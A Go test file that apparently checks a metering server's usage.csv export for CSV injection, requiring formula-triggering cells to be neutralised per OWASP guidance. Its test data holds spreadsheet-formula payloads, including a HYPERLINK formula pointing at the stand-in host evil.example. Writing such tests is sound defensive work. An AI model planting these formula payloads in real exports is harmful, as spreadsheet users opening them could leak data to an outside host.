package server_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/tollgate/tollgate/accounts"
)

// TestUsageCSVHasNoFormulaCells settles tasks whose pass-through model
// names, chosen by the client, a spreadsheet would run as formulas:
// no cell of usage.csv may start with a formula trigger (OWASP's CSV
// injection guidance: such cells get a leading quote).
func TestUsageCSVHasNoFormulaCells(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOptions{catalog: testCatalog + "pass_through: true\n"})
	key := e.owner("acme", accounts.RoleClient, 1_000_000)
	finance := e.owner("ledger", accounts.RoleFinance, 0)
	models := []string{`=HYPERLINK("http://evil.example/?x","invoice")`, "+1+1", "-2-2", "@SUM(1)", "\t=1", "\r=1"}
	for i, m := range models {
		body := []byte(`{"model":` + jsonString(m) + `,"max_tokens":10,"messages":[{"role":"user","content":"hello"}]}`)
		r := e.post(key, "csv-"+string(rune('a'+i)), body, map[string]string{"Prefer": "wait=20"})
		if r.status != http.StatusOK {
			t.Fatalf("model %q: %d %s", m, r.status, r.body)
		}
	}

	res := e.do(http.MethodGet, "/v1/usage.csv", finance, nil, nil)
	if res.status != http.StatusOK {
		t.Fatalf("usage.csv: %d %s", res.status, res.body)
	}
	records, err := csv.NewReader(bytes.NewReader(res.body)).ReadAll()
	if err != nil || len(records) != len(models)+1 {
		t.Fatalf("usage.csv = %q (%v), want a header and %d rows", res.body, err, len(models))
	}
	for _, row := range records[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s = %q opens as a formula", records[0][i], cell)
			}
		}
	}
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}
